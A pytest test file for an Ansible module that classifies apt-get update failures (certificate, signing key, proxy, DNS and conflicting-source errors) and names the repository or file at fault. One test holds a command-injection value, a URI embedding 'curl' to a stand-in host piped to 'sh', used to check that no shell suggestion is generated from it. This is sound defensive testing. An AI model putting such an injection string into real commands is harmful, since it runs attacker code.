"""Errors of apt-get update: which repository has them, and what is to be done about it."""

from __future__ import annotations

import fcntl
import hashlib
import http.server
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible.module_utils.gaudi.apt import faults
from ansible.module_utils.gaudi.apt.config import AptProxy
from ansible.module_utils.gaudi.apt.sources import AptSource
from ansible.module_utils.gaudi.base import access
from ansible.module_utils.gaudi.base.access import BUNDLE
from ansible.module_utils.gaudi.base.refusal import Refusal
from ansible.module_utils.gaudi.driver.troubles import recognised
from ansible.module_utils.gaudi.node import apt, package_look
from ansible.module_utils.gaudi.node.module import NodeModule
from ansible.module_utils.testing import patch_module_args
from hypothesis import example, given
from hypothesis import strategies as st

from library import apt_update
from tests.unit.node.outside import serving

URI, SUITE = "https://vault.example/debian", "jammy"
SOURCES = [AptSource("/etc/apt/sources.list.d/a.list", URI, SUITE)]
# The reasons are those of apt 2.6 (Debian 12) and 2.4 (Ubuntu 22.04) under LC_ALL=C.
UNKNOWN_CA = (
    "Certificate verification failed: The certificate is NOT trusted. The certificate issuer is unknown.  "
    "Could not handshake: Error in the certificate verification. [IP: 10.0.0.1 443]"
)
EXPIRED = "The following signatures were invalid: EXPKEYSIG 0E44AF0EAD0EF0E5 Vendor"
MISSING = (
    "The following signatures couldn't be verified because the public key is not available: NO_PUBKEY 0E44AF0EAD0EF0E5"
)


def err(why: str, uri: str = URI, suite: str = SUITE) -> str:
    return f"Ign:1 http://x y InRelease\nErr:2 {uri} {suite} InRelease\n  {why}\nReading package lists...\n"


def gpg(why: str, uri: str = URI) -> str:
    return f"W: GPG error: {uri} {SUITE} InRelease: {why}\nE: The repository '{uri} {SUITE} InRelease' is not signed."


CASES: list[Any] = [
    pytest.param(err(UNKNOWN_CA), "repository_certificate", "gaudi_ca_certificates", marks=pytest.mark.report("A17")),
    (f"E: Failed to fetch {URI}/dists/{SUITE}/InRelease  {UNKNOWN_CA}", "repository_certificate", "gaudi_ca_cert"),
    (gpg(MISSING), "repository_not_trusted", "(key 0E44AF0EAD0EF0E5)"),
    (gpg(EXPIRED), "repository_key_expired", "has expired"),
    (err("Could not resolve 'vault.example'"), "repository_down", "does not resolve the name vault.example"),
    (err("Temporary failure resolving 'vault.example'"), "repository_down", "the name vault.example"),
    (err("Could not resolve 'proxy.example'"), "repository_behind_proxy", "proxy.example, through which"),
    (
        err("Could not connect to 10.0.0.9:3128 (10.0.0.9). - connect (111: Connection refused)"),
        "repository_behind_proxy",
        "10.0.0.9, through which",
    ),
    (err("Invalid response from proxy: HTTP/1.1 407 Proxy Authentication Required"), "repository_behind_proxy", "407"),
    (err("407  Proxy Authentication Required [IP: 10.0.0.9 3128]"), "repository_behind_proxy", "407"),
    (err("401  Unauthorized [IP: 10.0.0.1 443]"), "repository_denies", "account"),
    (err("403  Forbidden [IP: 10.0.0.1 443]"), "repository_denies", "403"),
    (
        err("Could not connect to vault.example:443 (10.0.0.1). - connect (111: Connection refused)"),
        "repository_down",
        "nothing accepts connections",
    ),
    (err("Could not connect to [2001:db8::1]:443 (2001:db8::1). - connect (111: refused)"), "repository_down", "there"),
    (
        err("Could not connect to vault.example:443 (10.0.0.1), connection timed out"),
        "repository_down",
        "in time",
    ),
    (f"E: The repository '{URI} {SUITE} Release' does not have a Release file.", "no_such_suite", "_suite"),
    pytest.param(
        f"E: Release file for {URI}/dists/{SUITE}/InRelease is not valid yet (invalid for another 5h 2min 3s).",
        "repository_out_of_date",
        "clock",
        marks=pytest.mark.report("A18"),
    ),
    (
        f"E: Release file for {URI}/dists/{SUITE}/InRelease is expired (invalid since 3d 1h).",
        "repository_out_of_date",
        "any more",
    ),
    pytest.param(
        f"E: Repository '{URI} {SUITE} InRelease' changed its 'Label' value from 'a' to 'b'",
        "repository_changed",
        "'Label' value from 'a' to 'b'",
        marks=pytest.mark.report("A18"),
    ),
]


@pytest.mark.parametrize(("printed", "id_", "words"), CASES)
def test_a_fault_of_our_repository_ends_with_its_cause(printed: str, id_: str, words: str) -> None:
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(printed), SOURCES, URI, SUITE, "gaudi_driver")
    assert refused.value.id == id_
    assert words in str(refused.value)
    assert "Compare gaudi_driver_key " not in str(refused.value) or id_ == "repository_not_trusted"


@pytest.mark.parametrize(
    ("why", "file", "words"),
    [
        (
            UNKNOWN_CA,
            BUNDLE,
            f"gaudi_ca_certificates (here {BUNDLE}) does not contain",
        ),
        (UNKNOWN_CA, "/etc/ssl/site.pem", "/etc/ssl/site.pem does not contain the authority"),
        (
            "Certificate verification failed: The certificate is NOT trusted. The certificate chain uses expired "
            "certificate.  Could not handshake: Error in the certificate verification. [IP: 10.0.0.1 443]",
            BUNDLE,
            "has expired",
        ),
    ],
)
def test_a_certificate_is_not_blamed_on_an_option_that_is_set(why: str, file: str, words: str) -> None:
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(err(why)), SOURCES, URI, SUITE, "gaudi_driver", file)
    assert words in str(refused.value) and "vault.example" in str(refused.value)
    assert "name a file" not in str(refused.value)


@pytest.mark.report("A02")
@pytest.mark.parametrize(("printed", "id_", "words"), CASES)
def test_a_fault_of_another_repository_is_a_warning_with_its_file(printed: str, id_: str, words: str) -> None:
    (warning,) = faults.judge(faults.parse(printed), SOURCES, "https://ours.example/debian", SUITE, "gaudi_driver")
    assert f"{URI} {SUITE}, of {SOURCES[0].file}" in warning
    assert "gaudi_driver" not in warning, (id_, words)


DENIED = err("407  Proxy Authentication Required [IP: 10.0.0.9 3128]")
SITE_PROXY = AptProxy("http://u:hidden@10.0.0.9:3128", "gaudi_http_proxy", ours=True)
KEY_AND_FILE = "Acquire::http::Proxy of /etc/apt/apt.conf.d/50proxy"


def test_a_proxy_of_the_site_that_denies_access_ends_the_run_whosever_the_repository_is() -> None:
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(DENIED), SOURCES, "", "", "gaudi_driver", proxies={URI: SITE_PROXY})
    assert refused.value.id == "repository_behind_proxy"
    assert "10.0.0.9:3128 rejects its account (407)" in str(refused.value)
    assert "gaudi_http_proxy" in str(refused.value) and "hidden" not in str(refused.value)


@pytest.mark.parametrize(("address", "words"), [("http://u:p@p:1", "rejects"), ("http://p:1", "wants an account")])
def test_a_proxy_of_apts_own_is_named_by_its_key_and_file(address: str, words: str) -> None:
    proxies = {URI: AptProxy(address, KEY_AND_FILE)}
    (warning,) = faults.judge(faults.parse(DENIED), SOURCES, "", "", "gaudi_driver", proxies=proxies)
    assert KEY_AND_FILE in warning and words in warning and "gaudi_http" not in warning
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(DENIED), SOURCES, URI, SUITE, "gaudi_driver", proxies=proxies)
    assert KEY_AND_FILE in str(refused.value) and "gaudi_http" not in str(refused.value)


def test_an_error_that_a_proxy_answered_names_the_proxy() -> None:
    found = faults.parse(err("503  Service Unavailable [IP: 10.0.0.9 3128]"))
    (warning,) = faults.judge(found, SOURCES, "", "", "gaudi_driver", proxies={URI: SITE_PROXY})
    assert "10.0.0.9:3128 answered" in warning and "gaudi_http_proxy" in warning
    # Another port: the server's own answer.
    own = faults.parse(err("503  Service Unavailable [IP: 10.0.0.1 443]"))
    (warning,) = faults.judge(own, SOURCES, "", "", "gaudi_driver", proxies={URI: SITE_PROXY})
    assert "proxy" not in warning


def test_a_message_without_a_full_stop_gets_one() -> None:
    found = faults.parse(err("Could not connect to vault.example:443 (10.0.0.1). - connect (111: Connection refused)"))
    (warning,) = faults.judge(found, SOURCES, "", "", "gaudi_driver")
    assert "refused). This run" in warning


@pytest.mark.report("A02")
@pytest.mark.parametrize("why", [MISSING, EXPIRED])
def test_an_unrelated_repository_is_not_blamed_on_the_drivers_key(why: str) -> None:
    found = recognised(gpg(why), "https://ours.example/debian")
    assert found is not None
    assert found.id == "other_repository_fails"
    assert URI in str(found)
    assert "gaudi_driver_key" not in str(found)
    ours = recognised(gpg(why), URI)
    assert ours is not None
    assert "gaudi_driver_key" in str(ours)


@pytest.mark.report("A01")
def test_sources_in_conflict_are_named_by_their_files() -> None:
    printed = (
        f"E: Conflicting values set for option Signed-By regarding source {URI}/ {SUITE}: "
        "/usr/share/keyrings/a.gpg != \nE: The list of sources could not be read."
    )
    two = [*SOURCES, AptSource("/etc/apt/sources.list.d/habana.sources", f"{URI}/", SUITE)]
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(printed), two, URI, SUITE, "gaudi_driver")
    assert refused.value.id == "sources_in_conflict"
    assert all(source.file in str(refused.value) for source in two)
    found = recognised(printed)
    assert found is not None
    assert found.id == "sources_in_conflict"
    # An account or an option without log would mask the address.
    for said in (str(refused.value), str(found)):
        assert URI not in said
    assert f"grep -r {URI.split('/')[2]} /etc/apt" in str(found)


def test_what_is_no_host_stands_in_no_command() -> None:
    uri = "http://x;{curl,-s,evil.example}|sh/"
    found = recognised(f"E: Conflicting values set for option Signed-By regarding source {uri} jammy: a != b")
    assert found is not None
    assert "grep" not in str(found)


@pytest.mark.parametrize("option", ["Trusted", "Check-Valid-Until"])
def test_sources_in_conflict_about_an_option_without_values_are_named_by_it(option: str) -> None:
    printed = (
        f"E: Conflicting values set for option {option} regarding source {URI}/ {SUITE}\n"
        "E: The list of sources could not be read."
    )
    two = [*SOURCES, AptSource("/etc/apt/sources.list.d/dup.list", f"{URI}/", SUITE)]
    with pytest.raises(Refusal) as refused:
        faults.judge(faults.parse(printed), two, URI, SUITE, "gaudi_driver")
    assert refused.value.id == "sources_in_conflict"
    found = recognised(printed)
    assert found is not None
    assert found.id == "sources_in_conflict"
    for said in (str(refused.value), str(found)):
        assert f"suite {SUITE}: {option}." in said
        assert "gaudi_driver_repository" not in said
    assert two[-1].file in str(refused.value)


def test_a_file_that_apt_cannot_read_is_named() -> None:
    printed = "E: Malformed line 1 in source list /etc/apt/sources.list.d/b.list (type)\nE: The list of sources could"
    with pytest.raises(Refusal, match=r"sources\.list\.d/b\.list"):
        faults.judge(faults.parse(printed), [], "", "", "gaudi_driver")


@pytest.mark.parametrize(
    "printed",
    [
        f"W: Conflicting distribution: {URI} {SUITE} InRelease (expected {SUITE} but got stable)",
        f"W: {URI}/dists/{SUITE}/InRelease: Key is stored in legacy trusted.gpg keyring (/etc/apt/trusted.gpg)",
        f"N: Repository '{URI} {SUITE} InRelease' changed its 'Version' value from '1' to '2'",
        f"W: Target Packages (main/binary-amd64/Packages) is configured multiple times in {SOURCES[0].file}:1 and b:1",
        f"Ign:1 {URI} {SUITE} InRelease\n  Temporary failure resolving 'vault.example'\nHit:2 {URI} {SUITE} Release\n",
    ],
)
def test_a_remark_of_apts_is_no_fault(printed: str) -> None:
    assert faults.judge(faults.parse(printed), SOURCES, URI, SUITE, "gaudi_driver") == []


def test_an_account_that_apt_prints_is_not_repeated() -> None:
    printed = err(
        "401  Unauthorized [http://reader:hidden@vault.example/x]", uri="https://reader:hidden@vault.example/debian"
    )
    (warning,) = faults.judge(faults.parse(printed), SOURCES, "", "", "gaudi_driver")
    assert "hidden" not in warning
    assert SOURCES[0].file in warning


def test_another_suite_of_our_repository_is_somebody_elses() -> None:
    (warning,) = faults.judge(faults.parse(err("404  Not Found", suite="noble")), [], URI, SUITE, "gaudi_driver")
    assert f"{URI} noble" in warning


@given(st.text(max_size=300), st.text(max_size=60))
@example("", "[x]:80/debian")
def test_any_output_is_read(printed: str, host: str) -> None:
    text = f"{printed}\nErr:1 http://{host} jammy InRelease\n  {printed}\nE: x http://{host} jammy"
    assert all(fault.kind for fault in faults.parse(text))


class DenyingProxy(http.server.BaseHTTPRequestHandler):
    """A proxy that rejects every account."""

    def log_message(self, format: str, *arguments: object) -> None:
        """Print nothing."""

    def do_GET(self) -> None:
        self.send_response(407, "Proxy Authentication Required")
        self.send_header("Content-Length", "0")
        self.end_headers()


@pytest.fixture
def node(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Real apt with folders of its own, and a repository in a folder."""
    for name in ("etc/apt.conf.d", "etc/preferences.d", "etc/sources.list.d", "etc/trusted.gpg.d"):
        (tmp_path / name).mkdir(parents=True)
    for name in ("state/lists/partial", "cache/archives/partial", "repository/dists/jammy/main/binary-amd64"):
        (tmp_path / name).mkdir(parents=True)
    index = (
        "Package: toy\nVersion: 1\nArchitecture: amd64\nFilename: pool/toy.deb\nSize: 1\nSHA256: " + "0" * 64 + "\n\n"
    )
    (tmp_path / "repository/dists/jammy/main/binary-amd64/Packages").write_text(index)
    digest = f" {hashlib.sha256(index.encode()).hexdigest()} {len(index)} main/binary-amd64/Packages\n"
    release = f"Suite: jammy\nComponents: main\nArchitectures: amd64\nSHA256:\n{digest}"
    (tmp_path / "repository/dists/jammy/Release").write_text(release)
    (tmp_path / "status").touch()
    options = {
        "Dir": str(tmp_path),
        "Dir::Etc": "etc",
        "Dir::Etc::trustedparts": "trusted.gpg.d",
        "Dir::State": "state",
        "Dir::State::status": str(tmp_path / "status"),
        "Dir::Cache": "cache",
        "APT::Architecture": "amd64",
        "APT::Sandbox::User": "root",
        "Acquire::Retries": "0",
        "Acquire::Languages": "none",
        "Acquire::http::Proxy": "DIRECT",
    }
    (tmp_path / "apt.conf").write_text("".join(f'{name} "{value}";\n' for name, value in options.items()))
    monkeypatch.setenv("APT_CONFIG", str(tmp_path / "apt.conf"))
    monkeypatch.setattr(apt, "ETC", tmp_path / "etc")
    monkeypatch.setattr(apt, "LISTS", tmp_path / "state/lists")
    return tmp_path


@pytest.fixture
def update(capsys: pytest.CaptureFixture[str]) -> Callable[..., dict[str, Any]]:
    def start(**arguments: Any) -> dict[str, Any]:
        with patch_module_args(arguments), pytest.raises(SystemExit):
            apt_update.main()
        answer: dict[str, Any] = json.loads(capsys.readouterr().out)
        return answer

    return start


@pytest.mark.report("A02")
def test_a_broken_repository_of_somebody_else_does_not_end_the_run(
    node: Path, update: Callable[..., dict[str, Any]]
) -> None:
    (node / "etc/sources.list").write_text(f"deb [trusted=yes] file:{node}/repository jammy main\n")
    (node / "etc/sources.list.d/other.list").write_text("deb http://127.0.0.1:1/debian jammy main\n")
    ran = update(repository=f"file:{node}/repository", suite="jammy", packages=["toy"])
    assert not ran.get("failed"), ran
    (warning,) = ran["faults"]
    assert "http://127.0.0.1:1/debian jammy" in warning
    assert str(node / "etc/sources.list.d/other.list") in warning
    # The broken one is ours now.
    ran = update(repository="http://127.0.0.1:1/debian", suite="jammy")
    assert ran["refused_id"] == "repository_down"
    ran = update(packages=["toy", "nowhere"])
    assert ran["refused_id"] == "packages_not_offered"
    assert "offers nowhere." in ran["msg"]
    assert "http://127.0.0.1:1/debian jammy" in ran["msg"]


@pytest.mark.report("A02")
def test_an_unsigned_repository_of_somebody_else_does_not_end_the_run(
    node: Path, update: Callable[..., dict[str, Any]]
) -> None:
    shutil.copytree(node / "repository", node / "unsigned")
    (node / "etc/sources.list").write_text(
        f"deb [trusted=yes] file:{node}/repository jammy main\ndeb file:{node}/unsigned jammy main\n"
    )
    ran = update(repository=f"file:{node}/repository", suite="jammy", packages=["toy"])
    assert not ran.get("failed"), ran
    assert [f"file:{node}/unsigned jammy" in warning for warning in ran["faults"]] == [True]
    assert update(repository=f"file:{node}/unsigned", suite="jammy")["refused_id"] == "repository_not_trusted"


@pytest.mark.report("A01")
def test_real_sources_in_conflict_are_refused(node: Path, update: Callable[..., dict[str, Any]]) -> None:
    first, second = node / "etc/sources.list.d/a.list", node / "etc/sources.list.d/b.list"
    first.write_text("deb [signed-by=/usr/share/keyrings/a.gpg] http://127.0.0.1:1/debian jammy main\n")
    second.write_text("deb [signed-by=/usr/share/keyrings/b.gpg] http://127.0.0.1:1/debian jammy main\n")
    ran = update()
    assert ran["refused_id"] == "sources_in_conflict"
    assert f"{first} and {second}" in ran["msg"]
    named = apt.in_conflict(
        "E: Conflicting values set for option Signed-By regarding source http://127.0.0.1:1/debian/ jammy: a.gpg != "
    )
    assert f"{first} and {second}" in str(named)
    second.write_text("deb [trusted=yes signed-by=/usr/share/keyrings/a.gpg] http://127.0.0.1:1/debian jammy main\n")
    ran = update()
    assert (ran["refused_id"], "jammy: Trusted." in ran["msg"]) == ("sources_in_conflict", True)
    assert f"{first} and {second}" in ran["msg"]
    assert apt.in_conflict("E: Unable to locate package x") is None


@pytest.mark.report("A06")
def test_lists_that_another_program_reads_are_waited_for_and_then_refused(
    node: Path, update: Callable[..., dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    (node / "etc/sources.list").write_text(f"deb [trusted=yes] file:{node}/repository jammy main\n")
    paused: list[float] = []
    with (node / "state/lists/lock").open("w") as lock:
        # A lock of this very process would not be one to itself; apt is a child of it.
        fcntl.lockf(lock, fcntl.LOCK_EX)
        assert update(lock_timeout=0)["refused_id"] == "package_lists_locked"

        def release(seconds: float) -> None:
            paused.append(seconds)
            fcntl.lockf(lock, fcntl.LOCK_UN)

        monkeypatch.setattr("time.sleep", release)
        assert not update(lock_timeout=60, packages=["toy"]).get("failed")
    assert paused == [apt.LOCK_PAUSE]


@pytest.mark.parametrize("own", [False, True])
def test_apt_tells_whose_proxy_denies_access(
    node: Path, update: Callable[..., dict[str, Any]], monkeypatch: pytest.MonkeyPatch, own: bool
) -> None:
    (node / "etc/sources.list").write_text("deb http://vault.invalid/debian jammy main\n")
    with serving(DenyingProxy) as port:
        line = f'Acquire::http::Proxy::vault.invalid "http://u:hidden@127.0.0.1:{port}";\n'
        site, parts = node / "apt.conf", node / "etc/apt.conf.d"
        target = parts / "50proxy" if own else site
        target.write_text((target.read_text() if target.exists() else "") + line)
        monkeypatch.setattr(access, "APT_CONF", str(site))
        ran = update()
    said = str(ran.get("msg")) if not own else ran["faults"][0]
    assert bool(ran.get("failed")) is not own, ran
    assert f"127.0.0.1:{port} rejects its account" in said and "hidden" not in said
    assert (f"Acquire::http::Proxy::vault.invalid of {parts}/50proxy" if own else "gaudi_http_proxy") in said


def test_a_proxy_that_denies_the_file_of_a_package_is_named(node: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class PackageDenyingProxy(DenyingProxy):
        def do_GET(self) -> None:
            file = node / self.path.partition("vault.invalid/")[2]
            if self.path.endswith(".deb"):
                super().do_GET()
                return
            self.send_response(200 if file.is_file() else 404)
            self.send_header("Content-Length", str(file.stat().st_size if file.is_file() else 0))
            self.end_headers()
            self.wfile.write(file.read_bytes() if file.is_file() else b"")

    (node / "etc/sources.list").write_text("deb [trusted=yes] http://vault.invalid/repository jammy main\n")
    with serving(PackageDenyingProxy) as port:
        site = node / "apt.conf"
        site.write_text(f'{site.read_text()}Acquire::http::Proxy::vault.invalid "http://u:hidden@127.0.0.1:{port}";\n')
        monkeypatch.setattr(access, "APT_CONF", str(site))
        with patch_module_args({}):
            module = NodeModule(argument_spec={})
        assert module.run_command(["apt-get", "update"])[0] == 0
        status, _, said = module.run_command(["apt-get", "--yes", "--download-only", "install", "toy"])
        denials = apt.denials(module)
    refusal = recognised(said, denials=denials)
    assert status == 100 and refusal is not None and refusal.id == "repository_behind_proxy", said
    assert f"The proxy 127.0.0.1:{port} rejects its account (407). Check the account in gaudi_http_proxy" in str(
        refusal
    )
    assert "http://vault.invalid/repository/pool/toy.deb" in str(refusal) and "hidden" not in str(refusal)
    unknown = recognised(said)
    assert unknown is not None and unknown.id == "repository_behind_proxy"


def test_repositories_are_read_beforehand_and_the_node_stays_as_it_is(
    node: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(package_look, "APT", node / "etc")
    (node / "etc/sources.list").write_text(
        f"deb [trusted=yes] file:{node}/repository jammy main\ndeb [trusted=yes] http://other.invalid/x stable main\n"
    )
    for file, name in (("apt.conf.d/50hooks", "Pre-Invoke"), ("apt.conf", "Post-Invoke")):
        (node / "etc" / file).write_text(f'APT::Update::{name} {{"touch {node}/ran";}};\n')
    before = sorted(node.rglob("*"))
    with patch_module_args({}):
        module = NodeModule(argument_spec={})
    with serving(DenyingProxy) as port:
        # The node's own setting for the host wins over the site's proxy.
        own = node / "etc/apt.conf.d/60direct"
        own.write_text('Acquire::http::Proxy::other.invalid "http://127.0.0.1:9";\n')
        (said,) = package_look.unread(module, "", "jammy", "", {"http_proxy": f"http://127.0.0.1:{port}"})
        assert "http://other.invalid/x" in said and "sources.list" in said
        own.unlink()
        with pytest.raises(Refusal) as refused:
            package_look.unread(module, "http://other.invalid/x", "stable", "gaudi_driver", {})
    assert refused.value.id == "repository_down"
    assert sorted(node.rglob("*")) == before
    module.run_command(["apt-get", "update"])
    # A run of the owner's would have left its mark.
    assert (node / "ran").exists()
